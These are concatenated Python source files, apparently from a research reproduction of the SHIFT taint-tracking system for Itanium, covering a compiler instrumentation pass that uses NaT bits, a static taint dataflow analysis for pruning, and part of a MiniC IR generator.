BYTE_LEVEL = ShiftOptions(granularity=GRANULARITY_BYTE)
WORD_LEVEL = ShiftOptions(granularity=GRANULARITY_WORD)
UNINSTRUMENTED = ShiftOptions(mode="none")


class ShiftInstrumenter:
    """Applies the SHIFT pass to one function's instruction stream."""

    def __init__(self, options: ShiftOptions) -> None:
        self.options = options
        self._label_count = 0
        #: After :meth:`instrument`: for each original instruction (in
        #: stream order, labels skipped) the instruction offset within
        #: the instrumented output at which its expansion begins.  Every
        #: expansion is self-contained (it recomputes its own scratch
        #: predicates/registers), so these offsets are the safe resume
        #: points the adaptive mode controller maps between the clean
        #: and the instrumented copy of a function.
        self.anchors: List[int] = []

    def instrument(self, func: FunctionCode) -> FunctionCode:
        """Apply the SHIFT pass to one function's instruction stream."""
        if self.options.mode != "shift":
            return func
        self._func_name = func.name
        self._outofline: List[Item] = []
        if self.options.prune_clean_compares:
            from repro.compiler.taint_analysis import possibly_tainted_before

            self._tainted_before = possibly_tainted_before(func.items)
        else:
            self._tainted_before = None
        out: List[Item] = []
        if self.options.natgen == "function" and not self.options.enh_set_clear:
            self._emit_natgen(out)
        self.anchors = []
        emitted = sum(1 for it in out if isinstance(it, Instruction))
        for index, item in enumerate(func.items):
            if isinstance(item, Label):
                out.append(item)
                continue
            before = len(out)
            self._rewrite(item, out, index)
            self.anchors.append(emitted)
            emitted += sum(1 for it in out[before:]
                           if isinstance(it, Instruction))
        # Pointer-laundering fix blocks go out of line, after the
        # epilogue's br.ret, so the fast path takes no branches.
        out.extend(self._outofline)
        return FunctionCode(
            name=func.name,
            items=out,
            frame_size=func.frame_size,
            makes_calls=func.makes_calls,
        )

    # ------------------------------------------------------------------

    def _new_label(self, hint: str) -> str:
        self._label_count += 1
        return f".Lsh_{self._func_name}_{hint}{self._label_count}"

    def _emit_natgen(self, out: List[Item]) -> None:
        """Manufacture a NaT-tagged zero in r31 (paper Fig. 5, instrs 1-2)."""
        out.append(Instruction("movl", outs=(NAT_SOURCE,), imm=INVALID_ADDR,
                               role=ROLE_NATGEN, origin="func"))
        out.append(Instruction("ld8.s", outs=(NAT_SOURCE,), ins=(NAT_SOURCE,),
                               role=ROLE_NATGEN, origin="func"))

    def _rewrite(self, instr: Instruction, out: List[Item], index: int = -1) -> None:
        if instr.role is not None:
            out.append(instr)
            return
        op = instr.op
        if op in _PLAIN_LOADS:
            self._instrument_load(instr, out)
        elif op in _PLAIN_STORES:
            self._instrument_store(instr, out)
        elif op.startswith("cmp.") and self._needs_relax(instr, index):
            self._instrument_cmp(instr, out)
        elif op in ("xor", "sub") and self._is_zeroing_idiom(instr):
            # Purify zeroing idioms: xor r,r,r must clear the taint tag
            # (paper 3.2.2), but the hardware would propagate NaT.
            out.append(replace(instr, op="mov", ins=(R0,)))
        else:
            out.append(instr)

    @staticmethod
    def _is_zeroing_idiom(instr: Instruction) -> bool:
        return (
            len(instr.ins) == 2
            and instr.ins[0] == instr.ins[1]
            and instr.outs
            and instr.outs[0] == instr.ins[0]
        )

    def _needs_relax(self, instr: Instruction, index: int = -1) -> bool:
        if not self.options.relax_compares and not self.options.enh_nat_cmp:
            return False
        if not any(r.is_gr and r.index != 0 for r in instr.ins):
            return False
        if self._tainted_before is not None and 0 <= index:
            # Static pruning: skip relaxation when no operand can carry
            # taint at this program point (paper 4.4 optimisation).
            state = self._tainted_before[index]
            if not any(r.is_gr and r.index in state for r in instr.ins):
                return False
        return True

    # -- shared tag-address computation -----------------------------------

    def _emit_linearise(self, addr: Reg, origin: str, out: List[Item]) -> None:
        """T_LIN = linearised ``addr`` (paper Fig. 4): move the region
        number down next to the implemented bits.

        With ``fast_tag_translation`` (an ablation modelling x86-style
        flat translation, paper 6.4) the region bits are simply masked
        away — two instructions instead of five.
        """

        def emit(op: str, **kwargs) -> None:
            out.append(Instruction(op, role=ROLE_TAG_COMPUTE, origin=origin, **kwargs))

        if self.options.fast_tag_translation:
            emit("movl", outs=(T_LIN,), imm=IMPL_MASK)
            emit("and", outs=(T_LIN,), ins=(addr, T_LIN))
            return
        emit("shr.u", outs=(T_LIN,), ins=(addr,), imm=61)
        emit("shl", outs=(T_LIN,), ins=(T_LIN,), imm=IMPL_BITS)
        emit("movl", outs=(T_ADDR,), imm=IMPL_MASK)
        emit("and", outs=(T_ADDR,), ins=(addr, T_ADDR))
        emit("or", outs=(T_LIN,), ins=(T_LIN, T_ADDR))

    # -- loads ---------------------------------------------------------------

    def _instrument_load(self, instr: Instruction, out: List[Item]) -> None:
        if instr.qp:
            raise ValueError("cannot instrument predicated memory op")
        addr = instr.ins[0]
        dest = instr.outs[0]
        size = _PLAIN_LOADS[instr.op]

        def emit(op: str, role: str = ROLE_TAG_COMPUTE, **kwargs) -> None:
            out.append(Instruction(op, role=role, origin="load", **kwargs))

        # Under the permissive pointer policy, launder a tainted address
        # first (legitimate table lookups); under the strict policy a
        # tainted address faults at the original load (policy L1).
        guarded = self._address_guard(addr, "load", out)
        # Linearise the address before the load (the destination may
        # alias the address register), then perform the original load,
        # and only then touch the bitmap.
        self._emit_linearise(addr, "load", out)
        out.append(instr)
        if self.options.granularity == GRANULARITY_WORD:
            # One tag byte per 8-byte word: plain byte test.
            emit("shr.u", outs=(T_ADDR,), ins=(T_LIN,), imm=3)
            emit("ld1", role=ROLE_TAG_MEM, outs=(T_BITS,), ins=(T_ADDR,))
            emit("cmp.ne", outs=(PR(P_TAINT), PR(P_CLEAN)), ins=(T_BITS, R0))
        else:
            # One tag bit per byte: build the N-bit mask and test it
            # against a 16-bit window (an access may straddle a byte).
            emit("shr.u", outs=(T_ADDR,), ins=(T_LIN,), imm=3)
            emit("ld2", role=ROLE_TAG_MEM, outs=(T_BITS,), ins=(T_ADDR,))
            emit("and", outs=(T_OFF,), ins=(T_LIN,), imm=7)
            emit("movl", outs=(T_MASK,), imm=(1 << size) - 1)
            emit("shl", outs=(T_MASK,), ins=(T_MASK, T_OFF))
            emit("and", outs=(T_BITS,), ins=(T_BITS, T_MASK))
            emit("cmp.ne", outs=(PR(P_TAINT), PR(P_CLEAN)), ins=(T_BITS, R0))
        self._emit_taint_set(dest, "load", out)
        if guarded:
            # Pointer-taint propagation rule: a value loaded through a
            # tainted pointer is itself tainted (paper 3.2.2), and the
            # pointer's own taint is restored after the access.
            self._emit_taint_set(dest, "load", out, qp=P_ADDR)
            self._address_restore(addr, "load", out, skip=dest)

    def _emit_taint_set(self, dest: Reg, origin: str, out: List[Item],
                        qp: int = P_TAINT) -> None:
        """Set ``dest``'s NaT bit when predicate ``qp`` holds."""
        if self.options.enh_set_clear:
            out.append(Instruction("settag", qp=qp, outs=(dest,), ins=(dest,),
                                   role=ROLE_TAINT_SET, origin=origin))
            return
        if self.options.natgen == "use":
            # Ablation (paper 4.4): manufacture the NaT source at every
            # use instead of once per function — the expensive variant
            # the authors measured during development.
            out.append(Instruction("movl", outs=(NAT_SOURCE,), imm=INVALID_ADDR,
                                   role=ROLE_NATGEN, origin=origin))
            out.append(Instruction("ld8.s", outs=(NAT_SOURCE,), ins=(NAT_SOURCE,),
                                   role=ROLE_NATGEN, origin=origin))
        # Adding the NaT-tagged zero in r31 preserves the value and
        # contaminates the register (paper 4.1).
        out.append(Instruction("add", qp=qp, outs=(dest, ), ins=(dest, NAT_SOURCE),
                               role=ROLE_TAINT_SET, origin=origin))

    # -- permissive pointer policy (paper 3.2.2 / 4.1 relaxing code) -------

    def _address_guard(self, addr: Reg, origin: str, out: List[Item]) -> bool:
        """Launder a possibly-tainted address register before a memory op.

        Emits a tnat + rarely-taken branch to an out-of-line fix block
        that strips the address's NaT via spill/plain-reload.  Returns
        True when the guard was emitted (the caller must re-taint the
        address afterwards with :meth:`_address_restore`).
        """
        if self.options.pointer_policy != "permissive":
            return False
        if addr.index in (0, 12):  # r0 / stack pointer: never tainted
            return False
        back = self._new_label("aback")
        fix = self._new_label("afix")
        out.append(Instruction("tnat", outs=(PR(P_ADDR), PR(P_ADDR_CLEAN)), ins=(addr,),
                               role=ROLE_RELAX, origin=origin))
        out.append(Instruction("br.cond", qp=P_ADDR, target=fix,
                               role=ROLE_RELAX, origin=origin))
        out.append(Label(back))
        fx = self._outofline
        fx.append(Label(fix))
        fx.append(Instruction("adds", outs=(T_LIN,), ins=(SP,), imm=ADDR_FIX_SLOT,
                              role=ROLE_RELAX, origin=origin))
        fx.append(Instruction("st8.spill", ins=(T_LIN, addr),
                              role=ROLE_RELAX, origin=origin))
        fx.append(Instruction("ld8", outs=(addr,), ins=(T_LIN,),
                              role=ROLE_RELAX, origin=origin))
        # Re-spill r0 (never NaT) so the laundering spill leaves no
        # stale ar.unat bit: the slot is dead once reloaded, and a
        # lingering bit would pin repro.adaptive in track mode.
        fx.append(Instruction("st8.spill", ins=(T_LIN, R0),
                              role=ROLE_RELAX, origin=origin))
        fx.append(Instruction("br", target=back, role=ROLE_RELAX, origin=origin))
        return True

    def _address_restore(self, addr: Reg, origin: str, out: List[Item],
                         skip: Optional[Reg] = None) -> None:
        """Re-taint the laundered address register (value is unchanged)."""
        if skip is not None and addr == skip:
            return
        self._emit_taint_set(addr, origin, out, qp=P_ADDR)

    # -- stores ---------------------------------------------------------------

    def _instrument_store(self, instr: Instruction, out: List[Item]) -> None:
        if instr.qp:
            raise ValueError("cannot instrument predicated memory op")
        addr, value = instr.ins
        size = _PLAIN_STORES[instr.op]

        def emit(op: str, role: str = ROLE_TAG_COMPUTE, **kwargs) -> None:
            out.append(Instruction(op, role=role, origin="store", **kwargs))

        guarded = self._address_guard(addr, "store", out)
        emit("tnat", role=ROLE_TAINT_SET,
             outs=(PR(P_TAINT), PR(P_CLEAN)), ins=(value,))
        if size == 8:
            # st8.spill stores a NaT-tagged register without faulting;
            # a tainted *address* still faults here (policy L2).
            out.append(replace(instr, op="st8.spill"))
        elif self.options.enh_set_clear:
            # Enhancement 1: clearing a NaT is one instruction, so the
            # sub-word store goes through a laundered copy, branch-free.
            emit("mov", role=ROLE_TAINT_SET, outs=(T_MASK,), ins=(value,))
            emit("cleartag", role=ROLE_TAINT_SET, outs=(T_MASK,), ins=(T_MASK,))
            out.append(replace(instr, ins=(addr, T_MASK),
                               role=ROLE_TAINT_SET, origin="store"))
        else:
            # Sub-word stores have no spill form: when the source is
            # tainted, launder its NaT through a red-zone spill/reload
            # (the taint itself is already recorded in the bitmap).
            slow = self._new_label("slow")
            join = self._new_label("join")
            emit("br.cond", role=ROLE_TAINT_SET, qp=P_TAINT, target=slow)
            out.append(instr)  # fast path: clean source
            emit("br", role=ROLE_TAINT_SET, target=join)
            out.append(Label(slow))
            emit("adds", role=ROLE_TAINT_SET, outs=(T_LIN,), ins=(SP,), imm=RELAX_SLOT_A)
            emit("st8.spill", role=ROLE_TAINT_SET, ins=(T_LIN, value))
            emit("ld8", role=ROLE_TAINT_SET, outs=(T_MASK,), ins=(T_LIN,))
            # Clear the laundering spill's ar.unat bit (see _address_guard).
            emit("st8.spill", role=ROLE_TAINT_SET, ins=(T_LIN, R0))
            out.append(replace(instr, ins=(addr, T_MASK),
                               role=ROLE_TAINT_SET, origin="store"))
            out.append(Label(join))
        self._emit_linearise(addr, "store", out)
        if self.options.granularity == GRANULARITY_WORD:
            # One tag per word, written from the stored value's taint —
            # the paper's Fig. 5 update.  A sub-word store of a clean
            # value therefore wipes the whole word's tag: word-level
            # tracking trades that precision for speed (section 6.2).
            emit("shr.u", outs=(T_ADDR,), ins=(T_LIN,), imm=3)
            emit("mov", outs=(T_BITS,), ins=(R0,))
            emit("adds", qp=P_TAINT, outs=(T_BITS,), ins=(R0,), imm=1)
            emit("st1", role=ROLE_TAG_MEM, ins=(T_ADDR, T_BITS))
        else:
            emit("shr.u", outs=(T_ADDR,), ins=(T_LIN,), imm=3)
            emit("ld2", role=ROLE_TAG_MEM, outs=(T_BITS,), ins=(T_ADDR,))
            emit("and", outs=(T_OFF,), ins=(T_LIN,), imm=7)
            emit("movl", outs=(T_MASK,), imm=(1 << size) - 1)
            emit("shl", outs=(T_MASK,), ins=(T_MASK, T_OFF))
            emit("or", qp=P_TAINT, outs=(T_BITS,), ins=(T_BITS, T_MASK))
            emit("andcm", qp=P_CLEAN, outs=(T_BITS,), ins=(T_BITS, T_MASK))
            emit("st2", role=ROLE_TAG_MEM, ins=(T_ADDR, T_BITS))
        if guarded:
            self._address_restore(addr, "store", out, skip=value)

    # -- compares ---------------------------------------------------------------

    def _instrument_cmp(self, instr: Instruction, out: List[Item]) -> None:
        if self.options.enh_nat_cmp:
            # Enhancement 2: the NaT-aware compare simply proceeds.
            out.append(replace(instr, op="t" + instr.op))
            return
        gr_ins = [r for r in instr.ins if r.is_gr and r.index != 0]
        if self.options.enh_set_clear:
            # Enhancement 1 makes NaT-clearing one instruction, so the
            # relaxation is a branch-free compare of laundered copies.
            def emitc(op: str, **kwargs) -> None:
                out.append(Instruction(op, role=ROLE_RELAX, origin="cmp", **kwargs))

            replacements = {}
            for reg, scratch in zip(gr_ins, (T_BITS, T_OFF)):
                emitc("mov", outs=(scratch,), ins=(reg,))
                emitc("cleartag", outs=(scratch,), ins=(scratch,))
                replacements[reg] = scratch
            relaxed = tuple(replacements.get(r, r) for r in instr.ins)
            out.append(replace(instr, ins=relaxed))
            return

        def emit(op: str, **kwargs) -> None:
            out.append(Instruction(op, role=ROLE_RELAX, origin="cmp", **kwargs))

        slow = self._new_label("relax")
        join = self._new_label("cjoin")
        emit("tnat", outs=(PR(P_TAINT), PR(P_CLEAN)), ins=(gr_ins[0],))
        if len(gr_ins) > 1:
            emit("tnat", outs=(PR(P_TAINT2), PR(P_CLEAN2)), ins=(gr_ins[1],))
        emit("br.cond", qp=P_TAINT, target=slow)
        if len(gr_ins) > 1:
            emit("br.cond", qp=P_TAINT2, target=slow)
        out.append(instr)  # fast path: operands are NaT-free
        emit("br", target=join)
        out.append(Label(slow))
        # Slow path: copy operands through spill/plain-reload, which
        # strips the NaT bit, and compare the laundered copies.  The
        # original registers keep their taint.
        replacements = {}
        emit("adds", outs=(T_LIN,), ins=(SP,), imm=RELAX_SLOT_A)
        emit("st8.spill", ins=(T_LIN, gr_ins[0]))
        emit("ld8", outs=(T_BITS,), ins=(T_LIN,))
        # Clear the laundering spill's ar.unat bit (see _address_guard).
        emit("st8.spill", ins=(T_LIN, R0))
        replacements[gr_ins[0]] = T_BITS
        if len(gr_ins) > 1:
            emit("adds", outs=(T_LIN,), ins=(SP,), imm=RELAX_SLOT_B)
            emit("st8.spill", ins=(T_LIN, gr_ins[1]))
            emit("ld8", outs=(T_OFF,), ins=(T_LIN,))
            emit("st8.spill", ins=(T_LIN, R0))
            replacements[gr_ins[1]] = T_OFF
        relaxed_ins = tuple(replacements.get(r, r) for r in instr.ins)
        out.append(replace(instr, ins=relaxed_ins, role=ROLE_RELAX, origin="cmp"))
        out.append(Label(join))


def instrument_function(func: FunctionCode, options: ShiftOptions) -> FunctionCode:
    """Apply the SHIFT pass to one function."""
    return ShiftInstrumenter(options).instrument(func)
