"""Static possibly-tainted analysis for instrumentation pruning.

The paper's future work (section 4.4) proposes compiler optimisations
"to reduce unnecessary tracking code".  This pass implements the most
profitable one: a forward dataflow analysis over the generated machine
code that computes, at every program point, which general registers can
possibly hold tainted (NaT-tagged) data.  Compares whose operands are
provably clean — loop counters, frame addresses, constants — need no
relaxation code at all.

The analysis is conservative (sound for taint):

* loads from memory may produce taint (the bitmap decides at runtime),
  so any plain-load destination becomes possibly tainted;
* ALU results inherit possible taint from their sources;
* immediates (``movl``), moves from ``r0``, addresses derived only from
  ``sp``, and moves from branch/application registers are clean;
* at control-flow joins, states merge by union; the analysis iterates
  to a fixpoint over the function's basic blocks;
* calls clobber conservatively: the return register and all
  caller-saved registers become possibly tainted (the callee may have
  loaded tainted data into them); callee-saved registers keep their
  state (the callee preserves value *and* NaT via spill/fill).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, FrozenSet, List, Set, Tuple, Union

from repro.isa.instruction import Instruction, Label, OpKind
from repro.isa.operands import GR_RET, GR_SP

Item = Union[Label, Instruction]

#: Registers whose contents survive a call with taint state intact.
_CALLEE_SAVED = frozenset({4, 5, 6, 7, GR_SP})

_PLAIN_LOADS = {"ld1", "ld2", "ld4", "ld8"}


@dataclass
class _Block:
    start: int
    end: int
    succs: List[int]


def _is_local_control(instr: Instruction) -> bool:
    """Branches that end a basic block (calls fall through on return)."""
    if instr.kind is OpKind.CHK:
        return True
    if instr.kind is not OpKind.BRANCH:
        return False
    return instr.op not in ("br.call", "br.call.ind")


def _split_blocks(items: List[Item]) -> Tuple[List[_Block], Dict[int, int]]:
    """Basic blocks over an instruction/label stream."""
    label_at: Dict[str, int] = {
        item.name: i for i, item in enumerate(items) if isinstance(item, Label)
    }
    leaders: Set[int] = {0}
    for i, item in enumerate(items):
        if isinstance(item, Label):
            leaders.add(i)
        elif isinstance(item, Instruction):
            if _is_local_control(item):
                leaders.add(i + 1)
            if item.target is not None and item.target in label_at:
                leaders.add(label_at[item.target])
    ordered = sorted(x for x in leaders if x < len(items))
    block_of_pos: Dict[int, int] = {}
    blocks: List[_Block] = []
    for n, lead in enumerate(ordered):
        end = ordered[n + 1] if n + 1 < len(ordered) else len(items)
        blocks.append(_Block(start=lead, end=end, succs=[]))
        for pos in range(lead, end):
            block_of_pos[pos] = n

    for n, block in enumerate(blocks):
        last = None
        for pos in range(block.end - 1, block.start - 1, -1):
            if isinstance(items[pos], Instruction):
                last = items[pos]
                break
        fallthrough = [n + 1] if n + 1 < len(blocks) else []
        if last is None or not _is_local_control(last):
            block.succs = list(fallthrough)
            continue
        if last.op == "br" and not last.qp:
            if last.target in label_at:
                block.succs = [block_of_pos[label_at[last.target]]]
            continue
        if last.op in ("br.ret", "br.ind"):
            block.succs = []
            continue
        # Conditional branch / predicated br / chk.s: target + fallthrough.
        succs = list(fallthrough)
        if last.target is not None and last.target in label_at:
            succs.append(block_of_pos[label_at[last.target]])
        block.succs = succs
    return blocks, block_of_pos


def _transfer(state: FrozenSet[int], instr: Instruction) -> FrozenSet[int]:
    """One-instruction transfer function over the possibly-tainted set."""
    tainted = set(state)
    op = instr.op
    if op == "br.call":
        # Caller-saved registers may come back tainted; callee-saved and
        # sp keep their state (preserved with spill/fill).
        tainted = {r for r in tainted if r in _CALLEE_SAVED}
        tainted.add(GR_RET)
        tainted.update(range(14, 31))
        tainted.update(range(32, 40))
        return frozenset(tainted)
    if op == "br.call.ind":
        tainted = {r for r in tainted if r in _CALLEE_SAVED}
        tainted.add(GR_RET)
        tainted.update(range(14, 31))
        tainted.update(range(32, 40))
        return frozenset(tainted)
    outs = [r.index for r in instr.outs if r.is_gr]
    if not outs:
        return state
    if op in _PLAIN_LOADS or op == "ld8.fill":
        # Memory may hand back tainted data.
        tainted.update(outs)
        return frozenset(tainted)
    if op in ("movl", "mov.frombr", "mov.fromar", "ld8.s"):
        for out in outs:
            tainted.discard(out)
        return frozenset(tainted)
    if instr.qp:
        # Predicated writes may not happen: keep the old state too.
        ins_tainted = any(r.is_gr and r.index in state for r in instr.ins)
        if ins_tainted:
            tainted.update(outs)
        return frozenset(tainted)
    ins_tainted = any(r.is_gr and r.index in state for r in instr.ins)
    for out in outs:
        if ins_tainted:
            tainted.add(out)
        else:
            tainted.discard(out)
    return frozenset(tainted)


def possibly_tainted_before(items: List[Item]) -> List[FrozenSet[int]]:
    """For each item index, the set of possibly-tainted GRs on entry.

    Parameters are conservatively treated as possibly tainted on
    function entry (callers may pass tainted values).
    """
    blocks, _ = _split_blocks(items)
    entry_state = frozenset(range(8, 40))  # args/ret/temps may carry taint
    in_states: List[FrozenSet[int]] = [frozenset()] * len(blocks)
    if blocks:
        in_states[0] = entry_state
    # Iterate to fixpoint.
    changed = True
    out_states: List[FrozenSet[int]] = [frozenset()] * len(blocks)
    while changed:
        changed = False
        for n, block in enumerate(blocks):
            state = in_states[n]
            for pos in range(block.start, block.end):
                item = items[pos]
                if isinstance(item, Instruction):
                    state = _transfer(state, item)
            if state != out_states[n]:
                out_states[n] = state
            for succ in block.succs:
                merged = in_states[succ] | state
                if merged != in_states[succ]:
                    in_states[succ] = merged
                    changed = True
    # Second pass: per-position states.
    result: List[FrozenSet[int]] = [frozenset()] * len(items)
    for n, block in enumerate(blocks):
        state = in_states[n]
        for pos in range(block.start, block.end):
            result[pos] = state
            item = items[pos]
            if isinstance(item, Instruction):
                state = _transfer(state, item)
    return result
