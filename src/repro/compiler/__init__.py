"""MiniC compiler with the SHIFT instrumentation pass."""

from repro.compiler.codesize import CodeSize, expansion_percent, instructions_to_bytes
from repro.compiler.errors import CompileError
from repro.compiler.instrument import (
    BYTE_LEVEL,
    GRANULARITY_BYTE,
    GRANULARITY_WORD,
    INVALID_ADDR,
    ShiftOptions,
    UNINSTRUMENTED,
    WORD_LEVEL,
    instrument_function,
)
from repro.compiler.pipeline import CompiledProgram, STACK_TOP, compile_program
from repro.compiler.parser import parse

__all__ = [
    "BYTE_LEVEL",
    "CodeSize",
    "CompileError",
    "CompiledProgram",
    "GRANULARITY_BYTE",
    "GRANULARITY_WORD",
    "INVALID_ADDR",
    "STACK_TOP",
    "ShiftOptions",
    "UNINSTRUMENTED",
    "WORD_LEVEL",
    "compile_program",
    "expansion_percent",
    "instructions_to_bytes",
    "instrument_function",
    "parse",
]
