"""AST -> IR lowering for MiniC."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.compiler import ast_nodes as ast
from repro.compiler.ctypes_ import CHAR, CType, INT, VOID, pointer_to
from repro.compiler.errors import CompileError
from repro.compiler.ir import IRFunction, IRInstr, Operand, VReg
from repro.isa.program import DataItem

_REL_SWAP = {"eq": "eq", "ne": "ne", "lt": "gt", "le": "ge", "gt": "lt", "ge": "le"}
_RELS = {"==": "eq", "!=": "ne", "<": "lt", "<=": "le", ">": "gt", ">=": "ge"}
_BINOPS = {"+": "add", "-": "sub", "*": "mul", "/": "div", "%": "mod",
           "&": "and", "|": "or", "^": "xor", "<<": "shl", ">>": "shr"}


@dataclass
class Variable:
    """A named variable bound to a register, frame slot or global."""
    name: str
    ctype: CType
    storage: str  # 'vreg' | 'frame' | 'global'
    vreg: Optional[VReg] = None
    frame_offset: int = 0


@dataclass
class FunctionSig:
    """Callable signature (return type, parameter types, nativeness)."""
    name: str
    ret: CType
    params: Tuple[CType, ...]
    is_native: bool = False


@dataclass
class ModuleIR:
    """IR for a whole linked program (possibly many source files)."""

    functions: List[IRFunction] = field(default_factory=list)
    data: List[DataItem] = field(default_factory=list)
    natives: List[str] = field(default_factory=list)
    signatures: Dict[str, FunctionSig] = field(default_factory=dict)


class IRGenerator:
    """Lowers one or more translation units into a :class:`ModuleIR`."""

    def __init__(self) -> None:
        self.module = ModuleIR()
        self._globals: Dict[str, Variable] = {}
        self._strings: Dict[bytes, str] = {}
        self._label_count = 0
        self._defined: set = set()

    # ------------------------------------------------------------------

    def add_unit(self, unit: ast.TranslationUnit) -> None:
        """Lower one translation unit into the module."""
        for glob in unit.globals:
            self._add_global(glob)
        for func in unit.functions:
            self._add_signature(func)
        for func in unit.functions:
            if func.body is not None:
                if func.name in self._defined:
                    raise CompileError(f"redefinition of {func.name}", func.line)
                self._defined.add(func.name)
                self.module.functions.append(FuncGen(self, func).generate())

    def finish(self) -> ModuleIR:
        """Return the accumulated module IR."""
        return self.module

    # ------------------------------------------------------------------

    def _add_global(self, glob: ast.GlobalDef) -> None:
        if glob.name in self._globals:
            raise CompileError(f"redefinition of global {glob.name}", glob.line)
        init = _global_init_bytes(glob)
        self.module.data.append(
            DataItem(name=glob.name, size=max(glob.ctype.size, 1), init=init)
        )
        self._globals[glob.name] = Variable(glob.name, glob.ctype, "global")

    def _add_signature(self, func: ast.FunctionDef) -> None:
        sig = FunctionSig(
            name=func.name,
            ret=func.ret,
            params=tuple(p.ctype for p in func.params),
            is_native=func.is_native,
        )
        existing = self.module.signatures.get(func.name)
        if existing is not None and existing.params != sig.params:
            raise CompileError(f"conflicting declaration of {func.name}", func.line)
        self.module.signatures[func.name] = sig
        if func.is_native and func.name not in self.module.natives:
            self.module.natives.append(func.name)

    def intern_string(self, value: bytes) -> str:
        """Static data symbol for a string literal (deduplicated)."""
        symbol = self._strings.get(value)
        if symbol is None:
            symbol = f".Lstr{len(self._strings)}"
            self._strings[value] = symbol
            self.module.data.append(
                DataItem(name=symbol, size=len(value) + 1, init=value + b"\x00")
            )
        return symbol

    def new_label(self, func: str, hint: str) -> str:
        """Fresh module-unique label."""
        self._label_count += 1
        return f".L{func}_{hint}{self._label_count}"

    def global_var(self, name: str) -> Optional[Variable]:
        """Global variable by name, if declared."""
        return self._globals.get(name)


def _global_init_bytes(glob: ast.GlobalDef) -> bytes:
    ctype, init = glob.ctype, glob.init
    if init is None:
        return b""
    if isinstance(init, ast.StringLit):
        if not (ctype.is_array and ctype.pointee.kind == "char"):
            raise CompileError("string initialiser requires char array", glob.line)
        data = init.value + b"\x00"
        if len(data) > ctype.size:
            raise CompileError(f"initialiser too long for {glob.name}", glob.line)
        return data
    if isinstance(init, list):
        if not ctype.is_array:
            raise CompileError("brace initialiser requires array", glob.line)
        element = ctype.pointee.size
        out = b"".join(
            (item.value & ((1 << (8 * element)) - 1)).to_bytes(element, "little")
            for item in init
        )
        if len(out) > ctype.size:
            raise CompileError(f"too many initialisers for {glob.name}", glob.line)
        return out
    if isinstance(init, ast.NumberLit):
        if ctype.is_array:
            raise CompileError("scalar initialiser for array", glob.line)
        return (init.value & ((1 << (8 * ctype.size)) - 1)).to_bytes(ctype.size, "little")
    raise CompileError(f"unsupported initialiser for {glob.name}", glob.line)


#: Result of evaluating an lvalue: either a register-resident variable or
#: a (address-vreg, type) memory reference.
LValue = Tuple[str, object, CType]


class FuncGen:
    """IR generation for a single function body."""

    def __init__(self, gen: IRGenerator, func: ast.FunctionDef) -> None:
        self.gen = gen
        self.func = func
        self.irf = IRFunction(
            name=func.name,
            param_names=[p.name for p in func.params],
            returns_value=not func.ret.is_void,
        )
        self.scopes: List[Dict[str, Variable]] = [{}]
        self.break_labels: List[str] = []
        self.continue_labels: List[str] = []
        self._addr_taken = _collect_address_taken(func.body)

    # -- infrastructure ------------------------------------------------

    def emit(self, **kwargs) -> IRInstr:
        """Append one IR instruction."""
        instr = IRInstr(**kwargs)
        self.irf.body.append(instr)
        return instr

    def new_vreg(self) -> VReg:
        """Fresh virtual register in this function."""
        return self.irf.new_vreg()

    def new_label(self, hint: str) -> str:
        """Fresh label scoped to this function."""
        return self.gen.new_label(self.func.name, hint)

    def lookup(self, name: str) -> Optional[Variable]:
        """Resolve a name through the scope stack, then globals."""
        for scope in reversed(self.scopes):
            if name in scope:
                return scope[name]
        return self.gen.global_var(name)

    def declare(self, var: Variable) -> None:
        """Bind a variable in the innermost scope."""
        if var.name in self.scopes[-1]:
            raise CompileError(f"redefinition of {var.name} in {self.func.name}")
        self.scopes[-1][var.name] = var

    # -- entry ------------------------------------------------------------

    def generate(self) -> IRFunction:
        """Lower the whole function body; returns its IR."""
        for param in self.func.params:
            if param.ctype.is_struct:
                raise CompileError(
                    f"{self.func.name}: pass structs by pointer, not by value",
                    param.line,
                )
            vreg = self.new_vreg()
            self.irf.param_vregs.append(vreg)
            ctype = param.ctype.decay()
            if param.name in self._addr_taken:
                offset = self.irf.alloc_frame(8)
                var = Variable(param.name, ctype, "frame", frame_offset=offset)
                addr = self.new_vreg()
                self.emit(op="frameaddr", dst=addr, imm=offset)
                self.emit(op="store", a=addr, b=vreg, size=ctype.load_size)
                self.declare(var)
            else:
                self.declare(Variable(param.name, ctype, "vreg", vreg=vreg))
        self.gen_block(self.func.body)
        last = self.irf.body[-1] if self.irf.body else None
        if last is None or last.op != "ret":
            self.emit(op="ret", a=0 if self.irf.returns_value else None)
        return self.irf

    # -- statements ----------------------------------------------------------

    def gen_block(self, block: ast.Block) -> None:
        """Lower a block in a fresh scope."""
        self.scopes.append({})
        for stmt in block.statements:
            self.gen_stmt(stmt)
        self.scopes.pop()

    def gen_stmt(self, stmt: ast.Stmt) -> None:
        """Lower one statement."""
        if isinstance(stmt, ast.Block):
            self.gen_block(stmt)
        elif isinstance(stmt, ast.ExprStmt):
            self.gen_expr(stmt.expr, want_value=False)
        elif isinstance(stmt, ast.DeclStmt):
            self.gen_decl(stmt)
        elif isinstance(stmt, ast.If):
            self.gen_if(stmt)
        elif isinstance(stmt, ast.While):
            self.gen_while(stmt)
        elif isinstance(stmt, ast.For):
            self.gen_for(stmt)
        elif isinstance(stmt, ast.Return):
            self.gen_return(stmt)
        elif isinstance(stmt, ast.Break):
            if not self.break_labels:
                raise CompileError("break outside loop", stmt.line)
            self.emit(op="br", label=self.break_labels[-1])
        elif isinstance(stmt, ast.Continue):
            if not self.continue_labels:
                raise CompileError("continue outside loop", stmt.line)
            self.emit(op="br", label=self.continue_labels[-1])
        else:
            raise CompileError(f"unsupported statement {type(stmt).__name__}", stmt.line)

    def gen_decl(self, stmt: ast.DeclStmt) -> None:
        """Lower a local declaration (register or frame storage)."""
        ctype = stmt.ctype
        if ctype.is_struct and stmt.init is not None:
            raise CompileError("struct initialisers are not supported", stmt.line)
        if ctype.is_array or ctype.is_struct or stmt.name in self._addr_taken:
            offset = self.irf.alloc_frame(max(ctype.size, 8))
            var = Variable(stmt.name, ctype, "frame", frame_offset=offset)
            self.declare(var)
            if stmt.init is not None:
                if ctype.is_array or ctype.is_struct:
                    raise CompileError("aggregate initialiser not supported for locals", stmt.line)
                value, _ = self.gen_expr(stmt.init)
                addr = self.new_vreg()
                self.emit(op="frameaddr", dst=addr, imm=offset)
                self.emit(op="store", a=addr, b=value, size=ctype.load_size)
            return
        vreg = self.new_vreg()
